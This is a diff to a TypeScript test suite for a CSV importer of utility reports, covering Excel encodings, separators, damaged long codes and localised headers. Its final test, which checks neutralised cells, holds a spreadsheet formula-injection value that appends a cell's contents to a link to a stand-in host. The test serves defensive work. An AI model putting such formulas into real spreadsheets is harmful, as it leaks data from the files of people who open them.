@@ -1,5 +1,6 @@
 import { describe, test } from 'node:test';
 import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
 import { parseReportsCsv, type CsvParseResult } from '../../electron/core/csv-parse-reports.ts';
 import { describeCsvProblem, describeCsvWarning, describeReading } from '../../electron/core/csv-problem-text.ts';
 import { columnForHeader, HEADER_NAMES, headerKey, IMPORT_COLUMNS } from '../../shared/csv-columns.ts';
@@ -11,7 +12,8 @@ import { cp1252, utf16be, utf16le, utf8 } from '../helpers/excel-bytes.ts';
 // what Excel does to long codes and to times once it has opened a file.
 
 const NOW = new Date(2025, 4, 20, 12, 0, 0);
-const parse = (bytes: Uint8Array): CsvParseResult => parseReportsCsv(bytes, () => NOW);
+const TARGET = { baseUrl: 'https://rc.ropo24.fi/rest', cid: '123456' };
+const parse = (bytes: Uint8Array): CsvParseResult => parseReportsCsv(bytes, TARGET, () => NOW);
 
 function ok(result: CsvParseResult) {
   assert.ok(result.ok, `expected no problems, got ${JSON.stringify(!result.ok && result.problems)}`);
@@ -38,7 +40,7 @@ describe('encodings Excel writes', () => {
 
   test('Windows-1252 punctuation Excel puts in by itself (curly quotes, dashes, ellipsis) reads as those characters', () => {
     // 0x93 0x94: “ ”, 0x96: –, 0x85: …, 0x92: ’ (AutoCorrect's choices); none is a control character.
-    const bytes = Uint8Array.from([...cp1252('status;usageplacecode;description\r\nnotdisconnected;UP-1;'), 0x93, 0x4f, 0x94, 0x20, 0x96, 0x20, 0x85, 0x92, 0x0d, 0x0a]);
+    const bytes = Uint8Array.from([...cp1252('status;usageplacecode;time;description\r\nnotdisconnected;UP-1;4.1.2024 10.41;'), 0x93, 0x4f, 0x94, 0x20, 0x96, 0x20, 0x85, 0x92, 0x0d, 0x0a]);
     const result = ok(parse(bytes));
     assert.equal(result.encoding, 'windows-1252');
     assert.equal(result.rows[0]?.report.description, '\u201CO\u201D \u2013 \u2026\u2019');
@@ -59,10 +61,32 @@ describe('encodings Excel writes', () => {
   });
 
   test('UTF-8 with and without BOM; ä stays ä, and a decomposed ä becomes the composed one', () => {
-    assert.equal(ok(parse(utf8('\uFEFFstatus;usageplacecode;description\nconnected;UP-1;ä\n'))).encoding, 'utf-8-bom');
-    const plain = ok(parse(utf8('status;usageplacecode;description\nconnected;UP-1;a\u0308\n')));
+    assert.equal(ok(parse(utf8('\uFEFFstatus;usageplacecode;time;description\nconnected;UP-1;4.1.2024 10.41;ä\n'))).encoding, 'utf-8-bom');
+    const plain = ok(parse(utf8('status;usageplacecode;time;description\nconnected;UP-1;4.1.2024 10.41;a\u0308\n')));
     assert.equal(plain.encoding, 'utf-8');
     assert.equal(plain.rows[0]?.report.description, 'ä');
+  });
+
+  test('UTF-8 rows with a Windows-1252 row among them are refused as mixed, never read as "kÃ¤ytÃ¤vÃ¤ssÃ¤"', () => {
+    const head = 'status;usageplacecode;time;description\r\n';
+    const mixed = Uint8Array.from([
+      ...utf8(`${head}notdisconnected;UP-1;4.1.2024 10.41;Mittari käytävässä\r\n`),
+      ...cp1252('notdisconnected;UP-2;4.1.2024 10.42;Ovi lukossa, avain hävinnyt\r\n'),
+    ]);
+    const [p, ...rest] = problems(parse(mixed));
+    assert.deepEqual([p, rest], [{ code: 'mixed_encoding', line: 2, field: null, otherLine: 3 }, []]);
+    assert.match(describeCsvProblem(p!), /^This line is UTF-8 text, but line 3 is not: .*"CSV UTF-8 \(Comma delimited\)"/);
+    // Capitals: UTF-8's Ä Ö Å (C3 84, C3 96, C3 85) read in Windows-1252 as "Ã„", "Ã–", "Ã…".
+    const capitals = Uint8Array.from([
+      ...cp1252(`${head}notdisconnected;UP-1;4.1.2024 10.41;Åland €\n\n`),
+      ...utf8('notdisconnected;ÄÖ-2;4.1.2024 10.42;Ö\n'),
+    ]);
+    assert.deepEqual(problems(parse(capitals)), [{ code: 'mixed_encoding', line: 4, field: null, otherLine: 2 }]);
+    // One line with both: a UTF-8 ä beside a Windows-1252 one.
+    const oneLine = Uint8Array.from([...utf8(`${head}notdisconnected;UP-1;4.1.2024 10.41;ä `), ...cp1252('ä\n')]);
+    const [both] = problems(parse(oneLine));
+    assert.deepEqual(both, { code: 'mixed_encoding', line: 2, field: null, otherLine: 2 });
+    assert.match(describeCsvProblem(both!), /^This line mixes UTF-8 text with bytes that are not UTF-8/);
   });
 
   test('a file that fits no encoding is refused at its line', () => {
@@ -82,13 +106,32 @@ describe('encodings Excel writes', () => {
   });
 });
 
+describe('rows Excel shortened', () => {
+  test('cells left out at the end of a row are empty; a value past the header\'s columns is refused', () => {
+    // KB 77295: Excel may write no separators for a row's empty cells at its end.
+    const text = [
+      'status;usageplacecode;customernumber;time;description;invoices',
+      'disconnected;UP-1;A1;4.1.2024 10.41',
+      'notdisconnected;UP-2;;4.1.2024 10.42;Gate locked',
+      'connected;UP-3;;4.1.2024 10.43;;;;',
+      'connected;UP-4;;4.1.2024 10.44;;;;',
+    ].join('\r\n');
+    const result = ok(parse(cp1252(text)));
+    assert.deepEqual(result.rows.map((r) => [r.report.usageplacecode, r.report.customernumber, r.report.description, r.report.invoices]), [
+      ['UP-1', 'A1', undefined, []], ['UP-2', undefined, 'Gate locked', []], ['UP-3', undefined, undefined, []], ['UP-4', undefined, undefined, []],
+    ]);
+    const extra = problems(parse(utf8('status;usageplacecode;time\nconnected;UP-1;4.1.2024 10.41;Gate; locked\n')));
+    assert.deepEqual(extra, [{ code: 'field_count', line: 2, field: null, found: 5, expected: 3, separator: ';' }]);
+  });
+});
+
 describe('separators', () => {
   test('";", "," and tab are each taken from the header row, quoted separators not counted', () => {
-    assert.equal(ok(parse(utf8('status,usageplacecode,description\nconnected,UP-1,"a;b;c;d"\n'))).separator, ',');
-    assert.deepEqual(ok(parse(utf8('"note; x";status;usageplacecode\na;connected;UP-1\n'))).warnings[0], {
+    assert.equal(ok(parse(utf8('status,usageplacecode,time,description\nconnected,UP-1,4.1.2024 10.41,"a;b;c;d"\n'))).separator, ',');
+    assert.deepEqual(ok(parse(utf8('"note; x";status;usageplacecode;time\na;connected;UP-1;4.1.2024 10.41\n'))).warnings[0], {
       code: 'ignored_columns', line: 1, field: null, names: ['note; x'],
     });
-    assert.equal(ok(parse(utf8('status\tusageplacecode\tdescription\nconnected\tUP-1\ta, b; c\n'))).separator, '\t');
+    assert.equal(ok(parse(utf8('status\tusageplacecode\ttime\tdescription\nconnected\tUP-1\t4.1.2024 10.41\ta, b; c\n'))).separator, '\t');
   });
 
   test('a header with as many of two separators is refused, naming them', () => {
@@ -101,17 +144,17 @@ describe('separators', () => {
 });
 
 describe('what Excel destroyed', () => {
-  const header = 'status;usageplacecode;customernumber;contract_no;invoices';
+  const header = 'status;usageplacecode;customernumber;contract_no;time;invoices';
 
   test('E-notation in each code field is refused with line, field, and the Excel fix', () => {
     const text = [
       header,
-      'connected;6,43008E+17;C1;K1;1:2',
-      'connected;UP-2;6.43008E+17;K1;1:2',
-      'connected;UP-3;C1;5,55555E+05;1:2',
-      'connected;UP-4;C1;K1;5,94294E+11:1234',
-      'connected;UP-5;C1;K1;594294:1,234E+3 594295:1',
-      'connected;UP-6;A1E+5;1e5;12E34:7',
+      'connected;6,43008E+17;C1;K1;4.1.2024 10.41;1:2',
+      'connected;UP-2;6.43008E+17;K1;4.1.2024 10.41;1:2',
+      'connected;UP-3;C1;5,55555E+05;4.1.2024 10.41;1:2',
+      'connected;UP-4;C1;K1;4.1.2024 10.41;5,94294E+11:1234',
+      'connected;UP-5;C1;K1;4.1.2024 10.41;594294:1,234E+3 594295:1',
+      'connected;UP-6;A1E+5;1e5;4.1.2024 10.41;12E34:7',
     ].join('\r\n');
     const found = problems(parse(cp1252(text)));
     assert.deepEqual(found.map((p) => p.code === 'excel_number' && [p.line, p.field, p.value, p.part]), [
@@ -127,8 +170,8 @@ describe('what Excel destroyed', () => {
     assert.match(message, /Data → From Text\/CSV/);
   });
 
-  test('a long code ending in zeros past its 15th digit is a warning when the rest of the file has none', () => {
-    const rows = (...codes: string[]) => utf8(`status;usageplacecode\n${codes.map((c) => `connected;${c}`).join('\n')}\n`);
+  test('a long code ending in zeros past its 15th digit is a warning; when every long code does, one for the column', () => {
+    const rows = (...codes: string[]) => utf8(`status;usageplacecode;time\n${codes.map((c, i) => `connected;${c};4.1.2024 10.${10 + i}`).join('\n')}\n`);
     const mixed = ok(parse(rows('643007572062443672', '643007572062443000', '643007572062443673', '6430075720624430')));
     assert.deepEqual(mixed.warnings, [
       { code: 'trailing_zeros', line: 3, field: 'usageplacecode', value: '643007572062443000' },
@@ -136,7 +179,10 @@ describe('what Excel destroyed', () => {
     ]);
     assert.match(describeCsvWarning(mixed.warnings[0]!), /15th digit/);
     assert.equal(ok(parse(rows('643007572062443000'))).warnings.length, 1, 'alone in its file');
-    assert.deepEqual(ok(parse(rows('643007572062443000', '643007572062444000'))).warnings, [], 'every long code ends so: how this utility numbers');
+    // Excel cut the whole column: said once, never kept quiet.
+    const all = ok(parse(rows('643007572062443000', '643007572062444000', 'UP-1', '6430075720624450')));
+    assert.deepEqual(all.warnings, [{ code: 'trailing_zeros_column', line: 1, field: 'usageplacecode', value: '643007572062443000', count: 3 }]);
+    assert.match(describeCsvWarning(all.warnings[0]!), /^All 3 long usage place codes of the file end in zeros past their 15th digit \(the first: "643007572062443000"\)/);
     assert.deepEqual(ok(parse(rows('643007572062443010', '64300757206244301', 'UP-1000000000000000', '100000000000000'))).warnings, []);
   });
 });
@@ -164,6 +210,16 @@ describe('headers in the clerk\'s language', () => {
     }
   });
 
+  test("the README's example file imports as it says", () => {
+    const readme = readFileSync(new URL('../../README.md', import.meta.url), 'utf8');
+    const example = /```csv\n([\s\S]*?)```/.exec(readme)?.[1];
+    assert.ok(example, 'the README has a csv example');
+    const result = ok(parse(utf8(example)));
+    assert.deepEqual(result.rows.map((r) => [r.report.status, r.report.time, r.report.invoices.length]), [
+      ['disconnected', '2024-01-04 10:41:00', 2], ['notdisconnected', '2024-01-05 08:15:00', 1],
+    ]);
+  });
+
   test('every header name belongs to one column only', () => {
     const seen = new Map<string, string>();
     for (const column of IMPORT_COLUMNS) {
@@ -177,23 +233,23 @@ describe('headers in the clerk\'s language', () => {
   });
 
   test('unknown columns are listed and ignored; a missing required one is refused', () => {
-    const result = ok(parse(utf8('id;status;colour;usageplacecode;state;;\nx;connected;red;UP-1;sent;;\ny;connected;blue;UP-2;sent;;z\n')));
+    const result = ok(parse(utf8('aika;status;colour;usageplacecode;state;;\n4.1.2024 10.41;connected;red;UP-1;sent;;\n4.1.2024 10.41;connected;blue;UP-2;sent;;z\n')));
     assert.deepEqual(result.warnings, [
       { code: 'ignored_columns', line: 1, field: null, names: ['colour', 'state'] },
       { code: 'unnamed_columns', line: 1, field: null, columns: [7] },
     ]);
     assert.match(describeCsvWarning(result.warnings[0]!), /colour, state/);
-    assert.deepEqual(result.rows.map((r) => r.exportedId), ['x', 'y'], "an export's id column is read (see csv-import)");
     assert.deepEqual(result.rows.map((r) => r.report.usageplacecode), ['UP-1', 'UP-2']);
     const missing = problems(parse(utf8('tila;asiakasnumero\nconnected;A1\n')));
-    assert.deepEqual(missing, [{ code: 'missing_column', line: 1, field: 'usageplacecode' }]);
+    assert.deepEqual(missing, [{ code: 'missing_column', line: 1, field: 'usageplacecode' }, { code: 'missing_column', line: 1, field: 'time' }]);
     assert.match(describeCsvProblem(missing[0]!), /usageplacecode, käyttöpaikka, användningsställe, forbrukssted/);
   });
 });
 
 describe('an export read back', () => {
   test('cells the export neutralised for Excel read as they were', () => {
-    const result = ok(parse(utf8('status;usageplacecode;description\nnotdisconnected;\'-17;"\'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\nnotdisconnected;UP-2;"\'\'+1"\nnotdisconnected;UP-3;\'plain\n')));
+    const result = ok(parse(utf8('time;status;usageplacecode;description\n4.1.2024 10.41;notdisconnected;\'-17;"\'=HYPERLINK(""http://x.invalid/?""&A1,""open"")"\n' +
+      '4.1.2024 10.41;notdisconnected;UP-2;"\'\'+1"\n4.1.2024 10.41;notdisconnected;UP-3;\'plain\n')));
     assert.deepEqual(result.rows.map((r) => [r.report.usageplacecode, r.report.description]), [
       ['-17', '=HYPERLINK("http://x.invalid/?"&A1,"open")'],
       ['UP-2', "'+1"],
